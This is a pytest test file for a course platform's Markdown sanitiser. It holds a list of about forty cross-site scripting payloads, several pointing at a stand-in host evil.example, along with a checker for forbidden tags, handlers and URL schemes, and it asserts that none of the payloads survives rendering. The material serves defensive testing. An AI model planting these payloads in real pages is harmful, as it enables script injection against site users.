"""The Markdown sanitiser: XSS payloads planted in lesson text never reach the rendered page."""
import re
from html.parser import HTMLParser

import pytest

from courses.markdown_render import render_markdown, sanitize
from tests.courses.factories import make_course, make_lesson, markdown_body

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p onclick=\"alert(1)\" onmouseover=\"alert(1)\">text</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "<a href=\"java&#x0A;script:alert(1)\">newline</a>",
    "<a href=\" \x01javascript:alert(1)\">control</a>",
    "[x](java&#09;script:alert(1))",
    "<a href=\"#\" onfocus=\"alert(1)\" autofocus>focus</a>",
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "form", "input", "svg", "math", "base", "meta",
                  "link", "body", "textarea", "frame", "frameset", "template", "noscript"}
URL_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


class _Checker(HTMLParser):
    """Collects every tag and attribute of the rendered HTML as a browser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"tag <{tag}>")
        if tag == "button" and "cite-toggle" not in (attrs.get("class") or ""):
            self.problems.append("button outside citation markup")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"handler {name}")
            if name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"attribute {name}")
            if name in ("href", "src", "action", "data", "xlink:href") and value is not None:
                compact = re.sub(r"[\x00-\x20\x7f]", "", value).lower()
                m = URL_SCHEME.match(compact)
                if m and m.group(1) not in ("http", "https", "mailto", "tel"):
                    self.problems.append(f"{name}={value!r}")


def assert_safe(html):
    checker = _Checker()
    checker.feed(html)
    checker.close()
    assert checker.problems == [], f"{checker.problems} in {html!r}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    """Every payload renders to HTML with no script, handler, dangerous URL or forbidden tag."""
    assert_safe(render_markdown(payload, link_citations=False))
    assert_safe(render_markdown(f"正文 {payload} 正文\n\n- 列表 {payload}", link_citations=False))


def test_ordinary_markdown_survives():
    html = render_markdown("## 标题\n\n**加粗** [链接](https://example.org/x) ![图](/media/a.png)\n\n"
                           "| a | b |\n|---|---|\n| 1 | 2 |\n\n> 引用", link_citations=False)
    assert "<h2>标题</h2>" in html and "<strong>加粗</strong>" in html
    assert 'href="https://example.org/x"' in html and 'rel="noopener noreferrer"' in html
    assert 'src="/media/a.png"' in html and 'alt="图"' in html
    assert "<table>" in html and "<blockquote>" in html


def test_sanitize_keeps_text_of_removed_tags_only_when_harmless():
    assert sanitize("<script>secret()</script>ok").strip() == "ok"
    assert sanitize("<u onclick=x>下划线</u>") == "<u>下划线</u>"


@pytest.mark.django_db
def test_payloads_in_a_published_lesson_page(client, officer_user, penalty_law):
    """The lesson page as an officer sees it: all payloads planted in one Markdown block, none survives;
    the statute citation beside them is linked with its text inline."""
    course = make_course(n_lessons=0)
    lesson = make_lesson(course, body=markdown_body("引用《中华人民共和国行政处罚法》第三十三条。\n\n" + "\n\n".join(PAYLOADS)))
    client.force_login(officer_user)
    response = client.get(lesson.url)
    assert response.status_code == 200
    html = response.content.decode()
    body = html.split('class="lesson-body prose">', 1)[1].split('id="lesson-end"', 1)[0]
    assert_safe(body)
    assert f'href="{penalty_law.get_absolute_url()}"' in body
    assert penalty_law.text[:20] in body
